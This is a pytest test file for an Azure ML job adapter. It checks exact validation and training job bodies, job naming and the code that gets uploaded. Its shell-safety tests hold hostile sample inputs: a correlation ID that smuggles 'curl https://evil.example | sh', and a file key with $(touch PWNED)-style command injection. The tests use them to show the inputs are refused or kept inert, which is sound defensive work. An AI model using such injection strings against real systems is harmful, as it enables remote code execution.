"""The exact Azure ML command job bodies (Azure ML cannot run here), what their command
lines do in a shell, the code they ship, and the model a training run leaves for register."""

from __future__ import annotations

import copy
import hashlib
import json
import os
import re
import shlex
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import pytest
from azure.ai.ml.entities._job.to_rest_functions import to_rest_job_object
from azure.core.exceptions import ResourceNotFoundError

from shared.adapters.azure_ml import (
    AzureMLJobConfig,
    AzureMLTrainingConfig,
    AzureMLTrainingLauncher,
    AzureMLValidationJobs,
    azureml_job_name,
    datastore_uri,
    staged_code,
)
from shared.adapters.lineage_registry import LineageModelRegistry
from shared.adapters.sagemaker_training import training_job_name
from shared.cloud_facts import fact, value
from shared.events import DatasetValidated, ObjectRef
from shared.identifiers import CORRELATION_ID_RULE, InvalidIdentifier
from shared.ports import TrainingJobRequest, ValidationJobRequest
from shared.services.register import RegisterService
from shared.services.train_launch import training_request
from shared.specs import load_spec
from shared.triggers import parse_training_state_change
from shared.validation import validate_file
from tests.helpers import MemoryBus, MemoryLineage, MemoryStore, load_event

ROOT = Path(__file__).resolve().parents[2]

SHA = "cd34" * 16
CODE = "/tmp/dhow-azureml-code-x"  # what the submission uploads; staged_code() in the app
REQ = ValidationJobRequest(
    dataset="customers",
    sha256=SHA,
    spec_version="3+1a2b3c4d",
    source=ObjectRef(container="dhow-prod-raw", key="datasets/customers/big.csv"),
    staged=ObjectRef(
        container="dhow-prod-staging", key=f"datasets/customers/sha256={SHA}/data.csv"
    ),
    size_bytes=5 * 1024**3,
    correlation_id="u-7",
)
CFG = AzureMLJobConfig(
    compute="azureml:dhow-prod-cpu",
    environment="azureml:dhow-processing:3",
    staging_datastore="dhowprodstaging",
    stage="prod",
    environment_variables=(("DHOW_CLOUD", "azure"), ("DHOW_STAGE", "prod")),
    code=CODE,
)
NAME = (
    "dhow-prod--validate-customers-cd34cd34cd34-"
    + hashlib.sha256(b"customers\n3+1a2b3c4d").hexdigest()[:8]
)
EXPECTED = {
    "name": NAME,
    "properties": {
        "jobType": "Command",
        "displayName": "validate customers cd34cd34cd34",
        "experimentName": "dhow-validate",
        "command": (
            f"python -m shared.jobs.validate --dataset customers --sha256 {SHA}"
            f" --staged dhow-prod-staging/datasets/customers/sha256={SHA}/data.csv"
            " --source dhow-prod-raw/datasets/customers/big.csv"
            f" --size-bytes {5 * 1024**3} --correlation-id u-7 --input ${{{{inputs.staged}}}}"
        ),
        "codeId": CODE,
        "computeId": "azureml:dhow-prod-cpu",
        "environmentId": "azureml:dhow-processing:3",
        "environmentVariables": {"DHOW_CLOUD": "azure", "DHOW_STAGE": "prod"},
        "identity": {"identityType": "Managed"},
        # The job's stopping condition, which the validation sweep waits for (4 h).
        "limits": {"jobLimitsType": "Command", "timeout": "PT4H"},
        "inputs": {
            "staged": {
                "jobInputType": "uri_file",
                "uri": f"azureml://datastores/dhowprodstaging/paths/datasets/customers/sha256={SHA}"
                "/data.csv",
            }
        },
        "outputs": {},
        "properties": {},
        "isArchived": False,
        "tags": {
            "dhow:dataset": "customers",
            "dhow:sha256": SHA,
            "dhow:spec-version": "3+1a2b3c4d",
            "dhow:staged": f"dhow-prod-staging/datasets/customers/sha256={SHA}/data.csv",
        },
    },
}


class RecordingJobs:
    """Stands in for MLClient.jobs: records what would be sent."""

    def __init__(self, existing: set[str] | None = None) -> None:
        self.existing = existing or set()
        self.sent: list[dict[str, Any]] = []

    def get(self, name: str) -> Any:
        if name not in self.existing:
            raise ResourceNotFoundError(f"job {name} not found")
        return {"name": name}

    def create_or_update(self, job: Any) -> Any:
        # What MLClient.jobs.create_or_update sends: the SDK's own conversion.
        self.sent.append(to_rest_job_object(job).as_dict())
        return job


def test_command_job_body_is_exact() -> None:
    jobs = RecordingJobs()
    assert AzureMLValidationJobs(jobs, CFG).launch(REQ) == NAME
    assert jobs.sent == [EXPECTED]


def test_a_redelivery_finds_the_job_and_sends_nothing() -> None:
    jobs = RecordingJobs(existing={NAME})
    assert AzureMLValidationJobs(jobs, CFG).launch(REQ) == NAME
    assert jobs.sent == []


def test_job_name_is_deterministic() -> None:
    assert azureml_job_name(REQ, "prod") == azureml_job_name(REQ.model_copy(), "prod") == NAME


def _sdk_run_id_pattern() -> str:
    """The runId pattern azure-ai-ml's generated run-history client declares (it turns off
    client-side validation, so the pattern is read from its source and applied below)."""
    import inspect

    from azure.ai.ml._restclient.runhistory.operations import _runs_operations

    found = set(
        re.findall(
            r"_SERIALIZER\.url\(\"run_id\", run_id, 'str', pattern=r'([^']+)'\)",
            inspect.getsource(_runs_operations),
        )
    )
    assert len(found) == 1, found
    return str(found.pop())


def _run_id_accepted_by_azure_ml(name: str) -> bool:
    """Whether msrest, the SDK's serializer, with validation on, puts ``name`` in a run's
    URL under the SDK's declared runId pattern."""
    from msrest import Serializer
    from msrest.exceptions import ValidationError

    serializer = Serializer()  # type: ignore[no-untyped-call]  # msrest has no annotations
    serializer.client_side_validation = True
    try:
        serializer.url(  # type: ignore[no-untyped-call]
            "run_id", name, "str", pattern=_sdk_run_id_pattern()
        )
    except ValidationError:
        return False
    return True


def test_the_job_name_fact_is_azure_mls_own_rule() -> None:
    assert value("azure.ml.job_name")["pattern"] == _sdk_run_id_pattern()


def test_two_stages_never_share_a_validation_job_name() -> None:
    """A workspace shared by two stages: each stage's redelivery must find its own job,
    never adopt the other's (whose end would then be routed to the wrong validate)."""
    prod, dev = azureml_job_name(REQ, "prod"), azureml_job_name(REQ, "dev")
    assert prod != dev
    assert prod.startswith("dhow-prod--validate-")
    assert dev.startswith("dhow-dev--validate-")
    assert _run_id_accepted_by_azure_ml(prod)
    assert not _run_id_accepted_by_azure_ml("-" + prod)  # the check can refuse


@pytest.mark.parametrize("dataset", ["customers", "c" * 63, "churn_v2", "a-b_c-" + "x" * 57])
def test_job_names_follow_azure_mls_rule_for_every_dataset_name(dataset: str) -> None:
    rule = value("azure.ml.job_name")
    stage = "s" * 40
    name = azureml_job_name(REQ.model_copy(update={"dataset": dataset}), stage)
    assert len(name) <= rule["max_length"]
    assert re.fullmatch(rule["pattern"], name)
    assert _run_id_accepted_by_azure_ml(name)
    assert name.startswith(f"dhow-{stage}--validate-")
    # Spec versions that differ only where the name is cut still name different jobs.
    other = REQ.model_copy(update={"dataset": dataset, "spec_version": "4+1a2b3c4d"})
    assert azureml_job_name(other, stage) != name


def test_the_tags_a_run_event_carries_back_fit_azure_mls_limits() -> None:
    limits = value("azure.ml.run_tag_limits")
    long_key = f"datasets/{'d' * 63}/sha256={SHA}/data.parquet"
    req = REQ.model_copy(
        update={"staged": ObjectRef(container="dhow-" + "s" * 40 + "-staging", key=long_key)}
    )
    tags = AzureMLValidationJobs(RecordingJobs(), CFG).request(req).tags
    assert tags is not None
    assert len(tags) <= limits["count"]
    assert all(len(k) <= limits["key_chars"] for k in tags)
    assert all(len(str(v)) <= limits["value_chars"] for v in tags.values())
    assert tags["dhow:staged"] == req.staged.uri


def test_the_job_is_given_exactly_what_it_builds_its_storage_clients_from() -> None:
    """The submission, as the validate function on Azure makes it from the settings the
    stack writes: the job's own settings name the data account it reaches by identity."""
    from shared.adapters.azure import azure_clients
    from shared.adapters.azure_ml import VALIDATION_JOB_SETTINGS
    from shared.settings import Settings
    from shared.wiring import build_validation_jobs

    app = {
        "DHOW_CLOUD": "azure",
        "DHOW_STAGE": "prod",
        "DHOW_AZURE_LOCATION": "uaenorth",
        "DHOW_AZURE_STORAGE_ACCOUNT": "dhowprodab12data",
        "DHOW_AZURE_EVENTGRID_ENDPOINT": "https://dhow-prod.uaenorth-1.eventgrid.azure.net/api",
        "DHOW_AZUREML_SUBSCRIPTION_ID": "00000000-0000-0000-0000-000000000000",
        "DHOW_AZUREML_RESOURCE_GROUP": "dhow-prod-rg",
        "DHOW_AZUREML_WORKSPACE": "dhow-prod-ml",
        "DHOW_AZUREML_COMPUTE": "cpu-cluster",
        "DHOW_AZUREML_ENVIRONMENT": "azureml:dhow-validate:1",
        "DHOW_AZUREML_STAGING_DATASTORE": "dhow_staging",
    }
    launcher = build_validation_jobs(Settings.from_env(app))
    assert isinstance(launcher, AzureMLValidationJobs)
    job = launcher.request(REQ)
    env = dict(job.environment_variables or {})
    assert set(env) == set(VALIDATION_JOB_SETTINGS)
    assert "DHOW_AZURE_EVENTGRID_ENDPOINT" not in env  # the job publishes nothing
    settings = Settings.from_env(env)
    clients = azure_clients(settings)  # what shared.jobs.validate builds its store from
    assert clients.blobs.account_name == "dhowprodab12data"
    assert (settings.cloud, settings.stage) == ("azure", "prod")
    assert str(job.name).startswith("dhow-prod--validate-")


TRAIN_REQ = TrainingJobRequest(
    dataset="customers",
    sha256=SHA,
    spec_version="1+x",
    trainer_version="0.1.0",
    curated=ObjectRef(
        container="dhow-prod-curated", key=f"datasets/customers/sha256={SHA}/data.parquet"
    ),
    target="churned",
    task="classification",
    instance_types=("gpu",),
    hyperparameters={"n_estimators": "200"},
    correlation_id="u-1",
)
TRAIN_CFG = AzureMLTrainingConfig(
    compute="azureml:dhow-prod-gpu",
    environment="azureml:dhow-train:1",
    curated_datastore="dhowprodcurated",
    models_datastore="dhowprodmodels",
    models_container="dhow-prod-models",
    name_prefix="dhow-prod",
    code=CODE,
)
TRAIN_NAME = training_job_name(TRAIN_REQ, "dhow-prod")
HPS = '{"n_estimators": "200", "target": "churned", "task": "classification"}'
TRAIN_EXPECTED = {
    "name": TRAIN_NAME,
    "properties": {
        "jobType": "Command",
        "displayName": "train customers cd34cd34cd34",
        "experimentName": "dhow-train",
        "command": "python -m shared.jobs.azureml_training --entrypoint shared.trainer"
        " --train ${{inputs.train}} --output ${{outputs.output}}",
        "codeId": CODE,
        "computeId": "azureml:dhow-prod-gpu",
        "environmentId": "azureml:dhow-train:1",
        "environmentVariables": {
            "SM_HPS": HPS,
            "SM_NUM_GPUS": "1",
        },
        "identity": {"identityType": "Managed"},
        "inputs": {
            "train": {
                "jobInputType": "uri_file",
                "uri": f"azureml://datastores/dhowprodcurated/paths/datasets/customers/sha256={SHA}"
                "/data.parquet",
            }
        },
        "outputs": {
            "output": {
                "jobOutputType": "uri_folder",
                "uri": f"azureml://datastores/dhowprodmodels/paths/models/customers/"
                f"{TRAIN_NAME}/output/",
            },
        },
        "properties": {},
        "isArchived": False,
        "tags": {
            "dhow:dataset": "customers",
            "dhow:sha256": SHA,
            "dhow:spec-version": "1+x",
            "dhow:trainer-version": "0.1.0",
            "dhow:correlation-id": "u-1",
            "dhow:artifact": f"dhow-prod-models/models/customers/{TRAIN_NAME}/output/model.tar.gz",
            "dhow:hyperparameters": HPS,
            "dhow:compute": "azureml:dhow-prod-gpu",
            "dhow:image": "azureml:dhow-train:1",
        },
    },
}


def test_gpu_training_job_body_is_exact() -> None:
    jobs = RecordingJobs()
    out = AzureMLTrainingLauncher(jobs, TRAIN_CFG).launch(TRAIN_REQ)
    assert (out.job_name, out.created, out.instance_type) == (
        TRAIN_NAME,
        True,
        "azureml:dhow-prod-gpu",
    )
    assert jobs.sent == [TRAIN_EXPECTED]


def test_a_duplicate_training_request_starts_nothing() -> None:
    jobs = RecordingJobs(existing={TRAIN_NAME})
    out = AzureMLTrainingLauncher(jobs, TRAIN_CFG).launch(TRAIN_REQ)
    assert (out.created, jobs.sent) == (False, [])


def test_bring_your_own_trainer_and_environment() -> None:
    own = TRAIN_REQ.model_copy(
        update={"entrypoint": "acme.churn_trainer", "image": "azureml:acme-train:4"}
    )
    body = to_rest_job_object(AzureMLTrainingLauncher(RecordingJobs(), TRAIN_CFG).request(own))
    props = body.as_dict()["properties"]
    assert shlex.split(props["command"])[3:5] == ["--entrypoint", "acme.churn_trainer"]
    assert props["environmentId"] == "azureml:acme-train:4"


# --- what an uploader controls never reaches the shell as anything but one word ---


def test_a_hostile_correlation_id_is_refused_before_anything_is_sent() -> None:
    jobs = RecordingJobs()
    hostile = REQ.model_copy(update={"correlation_id": "x; curl https://evil.example | sh"})
    with pytest.raises(InvalidIdentifier) as err:
        AzureMLValidationJobs(jobs, CFG).launch(hostile)
    assert err.value.reason == "identifier_invalid"
    assert CORRELATION_ID_RULE in str(err.value)
    assert jobs.sent == []


def _argv_as_the_shell_runs_it(command: str, tmp_path: Path) -> list[str]:
    """Run the job's command line in bash with `python` standing for a program that only
    prints the arguments it got: what the workspace's shell would hand the job."""
    shim = tmp_path / "bin/python"
    shim.parent.mkdir()
    shim.write_text(
        f"#!/bin/sh\nexec {sys.executable} -c "
        "'import json, sys; print(json.dumps(sys.argv[1:]))' \"$@\"\n"
    )
    shim.chmod(0o755)
    line = command.replace("${{inputs.staged}}", str(tmp_path / "mounted.csv"))
    out = subprocess.run(
        ["bash", "-c", line],  # noqa: S607 - the shell Azure ML runs the command in
        cwd=tmp_path,
        env={"PATH": f"{shim.parent}:/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=True,
    )
    return list(json.loads(out.stdout))


@pytest.mark.parametrize(
    "key",
    [
        "datasets/customers/big.csv",
        # What ingest's key rule lets through: space, quote, parentheses, '*', '!'.
        "datasets/customers/it's (final) *copy*!.csv",
        # And what it does not, should the adapter ever be handed one.
        "datasets/customers/x$(touch PWNED)`touch PWNED`; touch PWNED #.csv",
    ],
)
def test_every_value_of_the_command_is_one_word_to_the_shell(key: str, tmp_path: Path) -> None:
    req = REQ.model_copy(update={"source": ObjectRef(container="dhow-prod-raw", key=key)})
    command = AzureMLValidationJobs(RecordingJobs(), CFG).request(req).command
    assert command is not None
    argv = _argv_as_the_shell_runs_it(command, tmp_path)
    assert argv == [
        "-m",
        "shared.jobs.validate",
        *("--dataset", "customers", "--sha256", SHA),
        *("--staged", REQ.staged.uri, "--source", f"dhow-prod-raw/{key}"),
        *("--size-bytes", str(5 * 1024**3), "--correlation-id", "u-7"),
        *("--input", str(tmp_path / "mounted.csv")),
    ]
    assert not (tmp_path / "PWNED").exists()


# --- the code the jobs run is shipped with them, and only that ---


def test_the_code_uploaded_is_the_package_alone() -> None:
    # Listed by azure-ai-ml's own walk, with the ignore file it would honour.
    from azure.ai.ml._utils._asset_utils import get_ignore_file, get_upload_files_from_folder

    assert fact("azure.ml.code_upload_ignore").value == [".amlignore", ".gitignore"]
    code = Path(staged_code())
    # Annotated List[str]; it returns (absolute, relative) pairs.
    pairs = cast(
        list[tuple[str, str]],
        get_upload_files_from_folder(code, ignore_file=get_ignore_file(code)),
    )
    files = {rel for _, rel in pairs}
    assert {
        "shared/trainer.py",
        "shared/jobs/validate.py",
        "shared/jobs/azureml_training.py",
        "shared/specs/customers.yaml",
    } <= files
    assert all(f.startswith("shared/") for f in files), sorted(files)[:5]
    assert not any(part in f for f in files for part in (".venv", ".git", "__pycache__"))
    assert sum((code / f).stat().st_size for f in files) < 5 * 1024**2


def test_both_jobs_ship_the_staged_code_by_default() -> None:
    validate = AzureMLValidationJobs(RecordingJobs(), replace(CFG, code=None)).request(REQ)
    train = AzureMLTrainingLauncher(RecordingJobs(), replace(TRAIN_CFG, code=None)).request(
        TRAIN_REQ
    )
    assert validate.code == train.code == staged_code()


# --- a real run's model is where register looks for it ---


def test_a_completed_run_leaves_the_model_where_register_takes_it(tmp_path: Path) -> None:
    run = validate_file(
        ROOT / "localstack/samples/customers.csv", "csv", load_spec("customers"), out_dir=tmp_path
    )
    assert run.curated is not None
    validated = DatasetValidated(
        dataset="customers",
        correlation_id="u-1",
        sha256=SHA,
        rows=100,
        spec_version=load_spec("customers").spec_version,  # as validate announced
        curated=TRAIN_REQ.curated,
    )
    request = training_request(validated)  # as train-launch makes it
    job = AzureMLTrainingLauncher(RecordingJobs(), replace(TRAIN_CFG, code=None)).request(request)
    body = to_rest_job_object(job).as_dict()["properties"]
    # Azure ML's part: mount the input and the output folder, set the variables, and run
    # the command in the uploaded code's folder.
    mounted = tmp_path / "outputs"
    line = (
        str(job.command)
        .replace("${{inputs.train}}", str(run.curated))
        .replace("${{outputs.output}}", str(mounted))
    )
    env = {
        **os.environ,
        "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}",
        **body["environmentVariables"],
    }
    done = subprocess.run(
        ["bash", "-c", line],  # noqa: S607 - the shell Azure ML runs the command in
        cwd=str(job.code),
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    # ...and the output folder's files become blobs under its datastore path.
    prefix = datastore_uri(TRAIN_CFG.models_datastore, "")
    output_key = body["outputs"]["output"]["uri"].removeprefix(prefix)
    store = MemoryStore()
    for f in mounted.rglob("*"):
        if f.is_file():
            rel = f.relative_to(mounted).as_posix()
            store.put_bytes(
                ObjectRef(container="dhow-prod-models", key=output_key + rel), f.read_bytes()
            )

    event = copy.deepcopy(load_event("azureml_run_status_changed.json"))
    assert set(event["data"]) == set(value("azure.ml.run_status_event_tags"))
    event["data"].update(runId=job.name, runTags=body["tags"], runStatus="Completed")
    ended = parse_training_state_change(json.dumps(event))

    lineage = MemoryLineage()
    registry = LineageModelRegistry(lineage)
    outcome = RegisterService(store, MemoryBus(), lineage, registry).handle(ended)
    assert outcome.status in ("approved", "rejected")  # judged, not failed for want of a model
    [version] = registry.versions("customers")
    assert version.artifact == f"dhow-prod-models/{output_key}model.tar.gz"


def test_datastore_paths_are_in_the_form_azure_ml_parses() -> None:
    # azure-ai-ml's own pattern for a datastore path, not one written here.
    from azure.ai.ml.constants._common import SHORT_URI_REGEX_FORMAT

    uri = str(value("azure.ml.datastore_uri")).format(datastore="dhowprodmodels", path="a/b/")
    assert uri == datastore_uri("dhowprodmodels", "a/b/")
    match = re.fullmatch(SHORT_URI_REGEX_FORMAT, uri)
    assert match is not None
    assert match.groups() == ("dhowprodmodels", "a/b/")


# --- a job's state, asked for when its end event never came --------------------------------


WORKSPACE = (
    "/subscriptions/s/resourceGroups/g/providers/Microsoft.MachineLearningServices/workspaces/w"
)


class StatefulJobs(RecordingJobs):
    """MLClient.jobs with jobs in a state: ``get`` answers the SDK's own Job entity, as
    azure-ai-ml builds it from the REST body ARM returns."""

    def __init__(self, status: str | None) -> None:
        super().__init__(existing=set() if status is None else {NAME})
        self.status = status
        self.cancelled: list[tuple[str, dict[str, Any]]] = []

    def get(self, name: str) -> Any:
        from azure.ai.ml._restclient.arm_ml_service.models import JobBase
        from azure.ai.ml.entities import Job

        super().get(name)
        body = copy.deepcopy(EXPECTED)
        body["properties"]["status"] = self.status
        body["id"] = f"{WORKSPACE}/jobs/{name}"
        return Job._from_rest_object(JobBase(body))

    def begin_cancel(self, name: str, **kwargs: Any) -> Any:
        self.cancelled.append((name, kwargs))


def _sdk_statuses() -> list[str]:
    """Every status azure-ai-ml's REST models know a job by."""
    from azure.ai.ml._restclient.arm_ml_service.models import JobStatus

    return [s.value for s in JobStatus]


def test_the_job_status_fact_is_azure_mls_own_list() -> None:
    rule = value("azure.ml.job_status")
    assert sorted(rule["all"]) == sorted(_sdk_statuses())
    assert set(rule["ended"]) | set(rule["stopping"]) <= set(rule["all"])


@pytest.mark.parametrize("status", _sdk_statuses())
def test_every_azure_ml_status_reads_as_one_of_the_ports(status: str) -> None:
    rule = value("azure.ml.job_status")
    state = AzureMLValidationJobs(StatefulJobs(status), CFG).state(NAME)
    expected = rule["ended"].get(status) or (
        "Stopping" if status in rule["stopping"] else "InProgress"
    )
    assert state.status == expected
    # An end without a result says which Azure ML status it was.
    assert (state.failure_reason is None) == (expected in ("InProgress", "Completed"))
    if state.failure_reason:
        assert status in state.failure_reason


def test_a_job_azure_ml_does_not_know_is_missing() -> None:
    assert AzureMLValidationJobs(StatefulJobs(None), CFG).state(NAME).status == "Missing"


def test_a_stuck_job_is_cancelled_without_waiting_and_its_bound_is_the_jobs_timeout() -> None:
    from azure.ai.ml.entities._job.to_rest_functions import to_rest_job_object

    jobs = StatefulJobs("Running")
    launcher = AzureMLValidationJobs(jobs, CFG)
    # One definition: the bound the sweep waits for is the job's own limits.timeout.
    sent = to_rest_job_object(launcher.request(REQ)).as_dict()
    fact("azure.ml.job_timeout")
    assert sent["properties"]["limits"]["timeout"] == f"PT{launcher.max_runtime_s // 3600}H"
    launcher.stop(NAME)
    assert jobs.cancelled == [(NAME, {"polling": False})]


def test_a_retry_is_a_new_azure_ml_job_with_a_name_of_its_own() -> None:
    rule = value("azure.ml.job_name")
    retry = REQ.model_copy(update={"attempt": 2})
    name = azureml_job_name(retry, "prod")
    assert name == azureml_job_name(REQ, "prod") + "-r2"  # the first keeps its name
    assert re.fullmatch(rule["pattern"], name)
    assert len(name) <= rule["max_length"]
